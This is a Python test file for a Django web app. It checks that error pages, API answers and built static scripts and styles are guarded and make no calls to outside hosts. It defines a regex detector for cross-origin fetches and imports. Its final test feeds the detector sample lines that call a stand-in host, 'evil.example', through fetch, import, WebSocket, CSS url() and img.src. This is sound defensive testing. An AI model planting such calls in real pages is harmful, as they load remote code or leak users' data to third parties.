"""Guards on what is no common page: faults, refusals, downloads, answers of the API, scripts and
styles as they are built (C39)."""

import re
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

import andu
from andu.api.tests.programs import program
from tests.api.samples import READS
from tests.cast import client_of
from tests.hostile.sending import read_out
from tests.hostile.test_doors import leading_out, unguarded

ELSEWHERE = re.compile(
    r"(?:fetch|import|importScripts|open|Worker|WebSocket|EventSource|sendBeacon)\(\s*[\"'`]"
    r"(?:https?:|wss?:)?//|@import\s+(?:url\()?[\"']?(?:https?:)?//"
    r"|(?-i:\burl)\(\s*[\"']?(?:https?:)?//"
    r"|\.(?:src|href|action)\s*=\s*[\"'`](?:https?:)?//|from\s*[\"'](?:https?:)?//", re.I,
)  # fmt: skip
BUILT = Path(andu.__file__).parent
FORM = "application/x-www-form-urlencoded"


def odd_answers(clerk: Any, monkeypatch: Any) -> dict[str, Any]:
    """One answer of each kind that is no common page."""
    browser, strict = client_of(clerk), Client(enforce_csrf_checks=True)
    browser.raise_request_exception = False
    made = {
        "404": browser.get("/nothing-here"), "404 of a stranger": Client().get("/nothing-here"),
        "403": browser.get("/admin/users"), "405": browser.get("/urge/1"),
        "403 of a form too old": strict.post("/login", {"login_name": "x"}),
        "400": browser.post("/me/phrases", {"_key": "?"}),
        "400 of a body": browser.generic("POST", "/login", b"\0" * 9, "multipart/form-data"),
        "422": browser.post("/me/phrases", {"text": ""}), "302": Client().get("/todo"),
        "404 of a static file": Client().get("/static/nothing.js"),
        "404 of machines": browser.get("/api/nothing"), "401": browser.get("/api/me"),
        "healthz": Client().get("/healthz"), "document": Client().get("/api/openapi.json"),
        "logout": client_of(clerk).post("/logout"),
    }  # fmt: skip
    monkeypatch.setattr("andu.notify.views.arranging.choices_of", lambda *_all: 1 / 0)
    monkeypatch.setattr("andu.notify.queries.choices_of", lambda *_all: 1 / 0)
    machine = program(clerk)
    machine.raise_request_exception = False
    made["500"] = browser.get("/me/notices/settings")
    made["500 of machines"] = machine.get("/api/notices/settings")
    return made


def test_faults_and_refusals_are_guarded_like_pages(clerk, monkeypatch):
    found = []
    for name, answer in odd_answers(clerk, monkeypatch).items():
        status = re.match(r"\d+", name)
        assert not status or answer.status_code == int(status[0]), (name, answer.status_code)
        found += [f"{name}: {said}" for said in unguarded(answer)]
        if answer["Content-Type"].startswith("text/html"):
            found += [f"{name}: {said}" for said in leading_out(answer.content.decode())]
    assert not found, "\n".join(found)


def test_answers_to_programs_are_guarded_and_set_no_cookie(world):
    found: list[str] = []
    machines: dict[int, Any] = {}
    for name, sample in READS.items():
        call = sample(world)
        if call.who.pk not in machines:
            machines[call.who.pk] = program(call.who)
        answer = machines[call.who.pk].get(call.path)
        assert answer.status_code == 200, name
        found += [f"{name}: {said}" for said in unguarded(answer)]
        found += [f"{name}: a cookie"] * bool(answer.cookies)
        read_out(answer)
    assert not found, "\n".join(found)


def test_scripts_and_styles_as_built_ask_nobody_else():
    built = [path for kind in ("js", "mjs", "css") for path in BUILT.glob(f"*/static/**/*.{kind}")]
    assert any("vendor" in path.parts for path in built)
    found = [
        f"{path.relative_to(BUILT)}: {one[0]}" for path in built
        for one in ELSEWHERE.finditer(path.read_text(encoding="utf-8", errors="replace"))
    ]  # fmt: skip
    assert not found, "\n".join(found)


@pytest.mark.parametrize("bad", [
    'fetch("https://evil.example/x")', "import('//evil.example/a.js')", "@import url(//evil.x/a)",
    "a{background:url(https://evil.example/a.png)}", "new WebSocket(`wss://evil.example`)",
    'img.src="http://evil.example"', 'import x from "https://evil.example/x.js"',
])  # fmt: skip
def test_what_asks_elsewhere_is_caught(bad):
    assert ELSEWHERE.search(bad)
    assert not ELSEWHERE.search('fetch("/todo") // see http://www.w3.org/2000/svg')
